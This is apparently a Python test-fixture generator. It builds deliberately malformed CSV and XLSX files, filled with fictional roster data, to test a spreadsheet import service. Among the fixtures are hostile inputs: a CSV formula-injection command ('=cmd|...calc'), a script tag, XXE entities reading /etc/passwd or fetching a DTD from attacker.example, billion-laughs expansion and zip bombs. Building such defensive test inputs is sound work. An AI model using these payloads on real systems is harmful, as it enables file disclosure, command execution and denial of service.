"""Write the hostile and dirty files of ``files/`` anew: ``python -m tests.hostile.make``.

Each file is wrong, or unusual, in one way, and ``expected.toml`` has what the service says to it. Workbooks are put
together by hand, part by part, because no writer of workbooks would write most of these. The same call writes the same
contents; packed bytes may differ between versions of zlib.
"""

import io
import zipfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from pathlib import Path
from typing import Final
from xml.sax.saxutils import escape

from registry.packages import column_letters

FILES: Final = Path(__file__).with_name("files")
MAIN: Final = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE: Final = "http://schemas.openxmlformats.org/package/2006"
XML: Final = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
LONG_AGO: Final = (1980, 1, 1, 0, 0, 0)

HEADING: Final = ("人员编号", "姓名", "部门代码", "行政区划代码", "执法证号", "证件有效期起", "证件有效期止", "状态")
FIRST: Final = ("market-6", "虚构甲", "market", "140100", "证market-6", "2019-01-01", "2023-12-31", "在岗")
SECOND: Final = ("market-7", "虚构乙", "market", "140105", "证market-7", "2019-01-01", "2023-12-31", "在岗")
ROSTER: Final = (HEADING, FIRST, SECOND)
OPERATORS: Final = ("统一社会信用代码", "名称", "主体类型", "登记状态", "是否开展交易", "行政区划代码", "住所")
OPERATOR: Final = ("91140000MAFAKE00XN", "虚构网络科技有限公司", "电商平台经营者", "存续", "是", "140105", "虚构路1号")

Cell = str | int | float
Row = Sequence[Cell]
Part = str | bytes | Iterable[bytes]
"""What a package holds under a name; in pieces where it is too large to stand in memory."""


def with_cell(column: str, value: Cell) -> tuple[Row, ...]:
    """Return the roster with one cell of its first row replaced."""
    return (HEADING, tuple(value if name == column else cell for name, cell in zip(HEADING, FIRST, strict=True)))


def csv(rows: Iterable[Row], separator: str = ",", end: str = "\r\n") -> str:
    """Return rows as a spreadsheet writes CSV where no cell needs quotes."""
    return "".join(separator.join(map(str, row)) + end for row in rows)


def cell(place: str, value: Cell) -> str:
    """Return a cell; a text in place, a number as it is."""
    if isinstance(value, str):
        space = ' xml:space="preserve"' if value != value.strip() else ""
        return f'<c r="{place}" t="inlineStr"><is><t{space}>{escape(value)}</t></is></c>'
    return f'<c r="{place}"><v>{value!r}</v></c>'


def row(number: int, cells: Row, first: int = 1) -> str:
    """Return a row of a sheet, cells from the given column on; an empty text is no cell."""
    written = (
        cell(f"{column_letters(at)}{number}", value) for at, value in enumerate(cells, start=first) if value != ""
    )
    return f'<row r="{number}">{"".join(written)}</row>'


def sheet(body: str, *, after: str = "", before: str = XML) -> str:
    """Return a sheet: its rows, and what comes after them."""
    return before + element("worksheet", f"<sheetData>{body}</sheetData>{after}")


def element(tag: str, inner: str) -> str:
    """Return the outermost element of a sheet or a book."""
    return f'<{tag} xmlns="{MAIN}" xmlns:r="{RELATIONS}">{inner}</{tag}>'


def relationship(number: int, kind: str, target: str) -> str:
    """Return a line that names a part."""
    return f'<Relationship Id="rId{number}" Type="{RELATIONS}/{kind}" Target="{target}"/>'


def table(rows: Iterable[Row], *, at: int = 1, first: int = 1) -> str:
    """Return rows one below the other."""
    return "".join(row(number, cells, first) for number, cells in enumerate(rows, start=at))


def merged(*ranges: str) -> str:
    """Return the list of merged ranges."""
    listed = "".join(f'<mergeCell ref="{each}"/>' for each in ranges)
    return f"<mergeCells>{listed}</mergeCells>"


def package(parts: Mapping[str, Part]) -> bytes:
    """Return parts as a zip file, always in the same bytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            entry = zipfile.ZipInfo(name, LONG_AGO)
            entry.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(entry, "w") as part:
                for piece in [data.encode()] if isinstance(data, str) else [data] if isinstance(data, bytes) else data:
                    part.write(piece)
    return file.getvalue()


def workbook(*sheets: str, parts: Mapping[str, Part] | None = None, hidden: Sequence[int] = ()) -> bytes:
    """Return a workbook of these sheets, with parts added or replaced; ``hidden`` counts sheets from 1."""
    numbers = range(1, len(sheets) + 1)
    state = {n: "hidden" if n in hidden else "visible" for n in numbers}
    listed = "".join(f'<sheet name="表{n}" sheetId="{n}" state="{state[n]}" r:id="rId{n}"/>' for n in numbers)
    related = "".join(relationship(n, "worksheet", f"worksheets/sheet{n}.xml") for n in numbers)
    types = "".join(
        f'<Override PartName="/xl/worksheets/sheet{n}.xml"'
        ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for n in numbers
    )
    return package(
        {
            "[Content_Types].xml": f'{XML}<Types xmlns="{PACKAGE}/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Override PartName="/xl/workbook.xml"'
            ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            f"{types}</Types>",
            "_rels/.rels": f'{XML}<Relationships xmlns="{PACKAGE}/relationships">'
            f"{relationship(1, 'officeDocument', 'xl/workbook.xml')}</Relationships>",
            "xl/workbook.xml": XML + element("workbook", f"<sheets>{listed}</sheets>"),
            "xl/_rels/workbook.xml.rels": f'{XML}<Relationships xmlns="{PACKAGE}/relationships">{related}'
            f"{relationship(98, 'styles', 'styles.xml')}{relationship(99, 'sharedStrings', 'sharedStrings.xml')}"
            "</Relationships>",
            "xl/styles.xml": f'{XML}<styleSheet xmlns="{MAIN}"><cellXfs count="2"><xf numFmtId="0"/>'
            '<xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>',
            "xl/sharedStrings.xml": f'{XML}<sst xmlns="{MAIN}"/>',
            **{f"xl/worksheets/sheet{n}.xml": body for n, body in zip(numbers, sheets, strict=True)},
            **(parts or {}),
        }
    )


def roster(**parts: Part) -> bytes:
    """Return the good roster as a workbook, with parts added: slashes written as ``__`` and dots as ``_dot_``."""
    named = {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    return workbook(sheet(table(ROSTER)), parts=named)


def date_cells() -> str:
    """Return the roster with its dates as a spreadsheet keeps them: numbers with a date format."""
    dates = '<c r="F2" s="1"><v>43466</v></c><c r="G2" s="1"><v>45291</v></c>'
    left = "".join(cell(f"{letter}2", value) for letter, value in zip("ABCDE", FIRST[:5], strict=True))
    return sheet(f'{row(1, HEADING)}<row r="2">{left}{dates}{cell("H2", FIRST[7])}</row>')


def formula(tag: str, prefix: str = "") -> str:
    """Return the roster with a formula in B2, its computed text beside it."""
    space = f' xmlns:{prefix[:-1]}="{MAIN}"' if prefix else ""
    name = f'<{prefix}c{space} r="B2" t="str">{tag}<{prefix}v>虚构甲</{prefix}v></{prefix}c>'
    others = "".join(cell(f"{letter}2", value) for letter, value in zip("CDEFGH", FIRST[2:], strict=True))
    return sheet(f'{row(1, HEADING)}<row r="2">{cell("A2", FIRST[0])}{name}{others}</row>')


def declaring(declaration: str, name: str) -> str:
    """Return a list of shared strings with a document type declaration."""
    return f'{XML}{declaration}<sst xmlns="{MAIN}"><si><t>&{name};</t></si></sst>'


AUTOFILTER: Final = '<autoFilter ref="A1:H3"/>'
CONDITION: Final = (
    '<conditionalFormatting sqref="A2:A9"><cfRule type="expression" priority="1"><formula>LEN(A2)&gt;9</formula>'
    "</cfRule></conditionalFormatting>"
)
VALIDATION: Final = (
    '<dataValidations count="1"><dataValidation type="list" sqref="H2:H9"><formula1>"在岗,离岗"</formula1>'
    "</dataValidation></dataValidations>"
)
LINK: Final = '<hyperlinks><hyperlink ref="A2" r:id="rId1"/></hyperlinks>'
LINKS: Final = (
    f'{XML}<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{RELATIONS}/hyperlink"'
    ' Target="https://shop.example/" TargetMode="External"/></Relationships>'
)
LAUGHS: Final = (
    '<!DOCTYPE sst [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join('<!ENTITY {} "{}">'.format(chr(98 + n), f"&{chr(97 + n)};" * 10) for n in range(9))
    + "]>"
)
XXE: Final = '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
USED_OFTEN: Final = f'{XML}<sst xmlns="{MAIN}"><si><t>{"长" * 32_000}</t></si></sst>'


def text_files() -> dict[str, bytes]:
    """Return the files that are text, or look like it."""
    good = csv(ROSTER)
    lines = good.splitlines(keepends=True)
    return {
        "csv-utf8.csv": good.encode(),
        "csv-utf8-bom.csv": good.encode("utf-8-sig"),
        "csv-gb18030.csv": good.encode("gb18030"),
        "csv-gb18030-rare.csv": csv(with_cell("姓名", "㐀𠮷")).encode("gb18030"),
        "csv-tabs.csv": csv(ROSTER, "\t").encode(),
        "csv-semicolons.csv": csv(ROSTER, ";").encode(),
        "csv-old-mac-line-ends.csv": csv(ROSTER, end="\r").encode(),
        "csv-title-above.csv": ("检查人员名录,,,,,,,\r\n填报单位：虚构局,,,,,,,\r\n" + good).encode(),
        "csv-empty-rows.csv": (lines[0] + ",,,,,,,\r\n\r\n" + lines[1] + "\r\n" * 100 + lines[2]).encode(),
        "csv-blank-column.csv": "".join(line.replace("\r\n", ",,\r\n") for line in lines).encode(),
        "csv-number-and-remark.csv": csv(
            [("序号", *HEADING, "备注"), (1, *FIRST, ""), (2, *SECOND, "新调入")]
        ).encode(),
        "csv-other-headings.csv": csv(
            [
                (
                    " 编 号*",
                    "执法人员姓名",
                    "部门代码（必填）",
                    "行政区划",
                    "行政执法证号",
                    "发证日期",
                    "有效期至",
                    "人员状态：",
                ),
                FIRST,
            ]
        ).encode(),
        "csv-quoted-line-break.csv": csv(with_cell("姓名", '"虚构\n甲"')).encode(),
        "csv-dirty-spaces.csv": csv(
            [
                HEADING,
                (
                    "\ufeffmarket-6 ",
                    "　虚 构　甲\u200b",
                    "ｍａｒｋｅｔ",
                    "１４０１００",
                    "证market-6",
                    "2019-01-01",
                    "2023-12-31",
                    "在　岗",
                ),
            ]
        ).encode(),
        "csv-dates-slashes.csv": csv(with_cell("证件有效期起", "2019/1/1")).encode(),
        "csv-dates-dots.csv": csv(with_cell("证件有效期起", "2019.01.01")).encode(),
        "csv-dates-chinese.csv": csv(with_cell("证件有效期起", "２０１９年１月１日")).encode(),
        "csv-dates-plain.csv": csv(with_cell("证件有效期起", "20190101")).encode(),
        "csv-dates-midnight.csv": csv(with_cell("证件有效期起", "2019-01-01 00:00:00")).encode(),
        "csv-date-serial.csv": csv(with_cell("证件有效期起", "43466")).encode(),
        "csv-date-american.csv": csv(with_cell("证件有效期起", "1/31/2019")).encode(),
        "csv-date-impossible.csv": csv(with_cell("证件有效期起", "2019-02-29")).encode(),
        "csv-date-mixed.csv": csv(with_cell("证件有效期起", "2019-1/1")).encode(),
        "csv-word-unknown.csv": csv(with_cell("状态", "借调")).encode(),
        "csv-word-alias.csv": csv(with_cell("状态", "在编在岗")).encode(),
        "csv-code-shortened.csv": csv(with_cell("执法证号", "1.40123E+17")).encode(),
        "csv-formula.csv": csv(with_cell("姓名", "=1+1")).encode(),
        "csv-formula-command.csv": csv(with_cell("姓名", "=cmd|'/C calc'!A0")).encode(),
        "csv-formula-at.csv": csv(with_cell("姓名", "@SUM(A1:A9)")).encode(),
        "csv-formula-plus.csv": csv(with_cell("姓名", "+SUM(A1)")).encode(),
        "csv-formula-minus.csv": csv(with_cell("姓名", "-1+cmd")).encode(),
        "csv-formula-behind-tab.csv": csv(with_cell("姓名", "\t=1+1")).encode(),
        "csv-formula-full-width.csv": csv(with_cell("姓名", "＝１＋１")).encode(),
        "csv-control-character.csv": csv(with_cell("姓名", "虚构\x07甲")).encode(),
        "csv-separator-character.csv": csv(with_cell("姓名", "虚构\x1f甲")).encode(),
        "csv-nul.csv": csv(with_cell("姓名", "虚构\x00甲")).encode(),
        "csv-turned-direction.csv": csv(with_cell("姓名", "虚构\u202e甲")).encode(),
        "csv-script.csv": csv(with_cell("姓名", "<script>alert(1)</script>")).encode(),
        "csv-cell-too-long.csv": csv(with_cell("姓名", "长" * 501)).encode(),
        "csv-cell-huge.csv": csv(with_cell("姓名", "长" * 140_000)).encode(),
        "csv-utf16.csv": good.encode("utf-16"),
        "csv-utf16-no-mark.csv": good.encode("utf-16-le"),
        "csv-big5.csv": csv(with_cell("姓名", "虛構甲")).encode("big5", errors="replace"),
        "csv-utf8-broken.csv": good.encode() + b"\xff\r\n",
        "csv-utf8-cut.csv": good.encode().rstrip(b"\r\n")[:-1],
        "csv-chinese-commas.csv": csv(ROSTER, "，").encode(),
        "csv-quote-open.csv": good.replace("虚构甲", '"虚构甲').encode(),
        "csv-row-too-long.csv": (good + csv([(*FIRST, "多")])).encode(),
        "csv-row-too-short.csv": (good + csv([FIRST[:-1]])).encode(),
        "csv-heading-missing.csv": csv([HEADING[:-1], FIRST[:-1]]).encode(),
        "csv-heading-unknown.csv": csv([(*HEADING, "证件颜色"), (*FIRST, "蓝")]).encode(),
        "csv-heading-misspelt.csv": csv([("人员编码号", *HEADING[1:]), FIRST]).encode(),
        "csv-heading-twice.csv": csv([(*HEADING, "执法人员姓名"), (*FIRST, "虚构丙")]).encode(),
        "csv-heading-none.csv": csv([FIRST, SECOND]).encode(),
        "csv-content-without-heading.csv": csv([(*HEADING, ""), (*FIRST, ""), (*SECOND, "多")]).encode(),
        "csv-only-heading.csv": csv([HEADING]).encode(),
        "csv-empty.csv": b"",
        "csv-only-mark.csv": b"\xef\xbb\xbf\r\n",
        "operators-heading-alias.csv": csv(
            [("社会信用代码", "企业名称", "经营者类型", "企业状态", "有无交易", "所属区划", "经营地址"), OPERATOR]
        ).encode(),
        "operators-heading-missing.csv": csv([OPERATORS[1:-1], OPERATOR[1:-1]]).encode(),
        "html-as-xls.xls": f"<html><body><table><tr><td>{'</td><td>'.join(HEADING)}</table></body></html>".encode(),
        "xml-2003.xls": (
            b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
            b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'
        ),
        "pdf.xlsx": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "image.xlsx": b"\x89PNG\r\n\x1a\n" + bytes(64),
        "gzip.csv": b"\x1f\x8b\x08\x00" + bytes(16),
        "old.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "Workbook".encode("utf-16-le"),
        "encrypted.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le"),
    }


def workbooks() -> dict[str, bytes]:
    """Return the files that are workbooks, or zip files at least."""
    good = sheet(table(ROSTER))
    return {
        "xlsx.xlsx": workbook(good),
        "xlsx-named-csv.csv": workbook(good),
        "xlsx-empty-sheets-beside.xlsx": workbook(sheet(""), good, sheet("")),
        "xlsx-title-above.xlsx": workbook(
            sheet(row(1, ("检查人员名录",)) + table(ROSTER, at=3), after=merged("A1:H1"))
        ),
        "xlsx-not-at-a1.xlsx": workbook(sheet(table(ROSTER, at=4, first=3))),
        "xlsx-date-cells.xlsx": workbook(date_cells()),
        "xlsx-number-cells.xlsx": workbook(sheet(table(with_cell("行政区划代码", 140100)))),
        "xlsx-number-lost-digits.xlsx": workbook(sheet(table(with_cell("执法证号", 140123199001011234)))),
        "xlsx-date-serial.xlsx": workbook(sheet(table(with_cell("证件有效期起", 43466)))),
        "xlsx-with-what-templates-have.xlsx": workbook(
            sheet(table(ROSTER), after=f"{AUTOFILTER}{CONDITION}{VALIDATION}{LINK}"),
            parts={"xl/worksheets/_rels/sheet1.xml.rels": LINKS, "xl/media/image1.png": b"\x89PNG"},
        ),
        "xlsx-formula-text.xlsx": workbook(sheet(table(with_cell("姓名", "=1+1")))),
        "xlsx-script.xlsx": workbook(sheet(table(with_cell("姓名", "<script>alert(1)</script>")))),
        "xlsx-line-break.xlsx": workbook(sheet(table(with_cell("姓名", "虚构\n甲")))),
        "xlsx-error-cell.xlsx": workbook(
            good.replace('<c r="B2" t="inlineStr"><is><t>虚构甲</t></is></c>', '<c r="B2" t="e"><v>#N/A</v></c>')
        ),
        "xlsx-million-empty-rows.xlsx": workbook(sheet(table(ROSTER) + "<row/>" * 1_048_573)),
        "xlsx-formula.xlsx": workbook(formula("<f>A1&amp;A2</f>")),
        "xlsx-formula-shared.xlsx": workbook(formula('<f t="shared" si="0"/>')),
        "xlsx-formula-prefixed.xlsx": workbook(formula("<x:f>A1</x:f>", "x:")),
        "xlsx-merged-heading.xlsx": workbook(sheet(table(ROSTER), after=merged("A1:B1"))),
        "xlsx-merged-data.xlsx": workbook(sheet(table(ROSTER), after=merged("C2:C3"))),
        "xlsx-two-sheets.xlsx": workbook(good, good),
        "xlsx-hidden-sheet.xlsx": workbook(good, sheet(row(1, ("旧名录",))), hidden=(2,)),
        "xlsx-empty.xlsx": workbook(sheet("")),
        "xlsx-content-without-heading.xlsx": workbook(sheet(table(ROSTER) + row(9, ("多",), 12))),
        "xlsx-far-cell.xlsx": workbook(sheet(table(ROSTER) + row(1_048_576, ("远",), 16_384))),
        "xlsx-far-column.xlsx": workbook(sheet(table(ROSTER) + row(4, ("远",), 16_384))),
        "xlsx-macro.xlsm": roster(xl__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0"),
        "xlsx-macro-sheet.xlsm": roster(xl__macrosheets__sheet1_dot_xml=good),
        "xlsx-external-link.xlsx": roster(xl__externalLinks__externalLink1_dot_xml="<externalLink/>"),
        "xlsx-connection.xlsx": roster(xl__connections_dot_xml="<connections/>"),
        "xlsx-embedded.xlsx": roster(xl__embeddings__oleObject1_dot_bin=b"MZ"),
        "xlsx-nested-zip.xlsx": roster(xl__media__inner_dot_zip=package({"a": "a"})),
        "xlsx-xxe.xlsx": roster(xl__sharedStrings_dot_xml=declaring(XXE, "x")),
        "xlsx-xxe-parameter.xlsx": roster(
            xl__sharedStrings_dot_xml=declaring('<!DOCTYPE sst SYSTEM "http://attacker.example/x.dtd">', "x")
        ),
        "xlsx-billion-laughs.xlsx": roster(xl__sharedStrings_dot_xml=declaring(LAUGHS, "j")),
        "xlsx-dtd-in-sheet.xlsx": workbook(sheet(table(ROSTER), before=f"{XML}<!DOCTYPE worksheet>")),
        "xlsx-dtd-behind-comment.xlsx": workbook(
            sheet(table(ROSTER), before=f"{XML}<!--{' ' * 2_000_000}--><!DOCTYPE worksheet>")
        ),
        "xlsx-utf16-part.xlsx": workbook(
            sheet(table(ROSTER)), parts={"xl/sharedStrings.xml": USED_OFTEN[:99].encode("utf-16")}
        ),
        "xlsx-deep.xlsx": workbook(sheet(table(ROSTER) + "<a>" * 1_000_000)),
        "xlsx-broken-xml.xlsx": workbook(sheet(table(ROSTER) + "<row r=")),
        "xlsx-sheet-missing.xlsx": workbook(
            good, parts={"xl/_rels/workbook.xml.rels": f'{XML}<Relationships xmlns="{PACKAGE}/relationships"/>'}
        ),
        "xlsx-cut.xlsx": workbook(good)[:-200],
        "xlsx-damaged.xlsx": _damaged(workbook(good)),
        "xlsx-bomb.xlsx": roster(xl__sharedStrings_dot_xml=_blown_up(540)),
        "xlsx-bomb-of-many-parts.xlsx": roster(**{f"xl__theme__theme{n}_dot_xml": "<a/>" for n in range(2_001)}),
        "xlsx-bomb-of-strings.xlsx": workbook(
            sheet(row(1, HEADING) + '<row><c t="s"><v>0</v></c></row>' * 100_000),
            parts={"xl/sharedStrings.xml": USED_OFTEN},
        ),
        "xlsx-bomb-of-cells.xlsx": workbook(sheet(row(1, HEADING) + f"<row>{'<c><v>1</v></c>' * 200}</row>" * 5_000)),
        "xlsb.xlsb": package({"xl/workbook.bin": b"\x83\x01"}),
        "ods.ods": package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}),
        "word.docx": package({"word/document.xml": "<a/>"}),
        "zip-of-roster.zip": package({"名录.csv": csv(ROSTER)}),
        "zip-locked.xlsx": _locked(workbook(good)),
        "zip-empty.xlsx": package({}),
    }


def every_file() -> dict[str, bytes]:
    """Return all of them, by name."""
    return text_files() | workbooks()


def _damaged(data: bytes) -> bytes:
    """Return a package whose last part has another check sum than its directory says."""
    at = data.rindex(b"PK\x01\x02") + 16
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def _locked(data: bytes) -> bytes:
    """Return a package whose last part says that it is encrypted."""
    at = data.rindex(b"PK\x01\x02") + 8
    return data[:at] + bytes([data[at] | 1]) + data[at + 1 :]


def _blown_up(mib: int) -> Iterable[bytes]:
    yield f'{XML}<sst xmlns="{MAIN}"><si><t>'.encode()
    for _ in range(mib):
        yield b" " * (1 << 20)
    yield b"</t></si></sst>"


def write(name: str, make: Callable[[], Mapping[str, bytes]] = every_file) -> None:
    """Write the files into a directory."""
    directory = Path(name)
    directory.mkdir(exist_ok=True)
    for file, data in make().items():
        directory.joinpath(file).write_bytes(data)


if __name__ == "__main__":
    write(str(FILES))
